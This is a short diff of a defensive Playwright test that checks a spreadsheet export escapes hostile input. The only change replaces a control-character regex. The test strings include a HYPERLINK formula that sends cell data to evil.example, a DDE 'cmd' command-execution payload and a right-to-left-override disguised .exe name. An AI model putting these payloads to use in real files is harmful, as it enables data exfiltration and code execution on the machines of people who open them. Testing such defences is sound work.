@@ -163,8 +163,7 @@ test.describe('what a stranger could send', () => {
     expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`)
     expect(text).toContain(`'=cmd|' /C calc'!A0`)
     expect(text).toContain('Dublin[U+202E]gnp.exe')
-    // oxlint-disable-next-line eslint/no-control-regex -- Control characters are what must not be there.
-    expect(text).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u202e]/)
+    expect(text).not.toMatch(/(?![\t\r\n])[\p{Cc}\p{Bidi_Control}]/u)
     await expect(announced(page, '2 unreadable left out.')).toBeVisible()
   })
 })
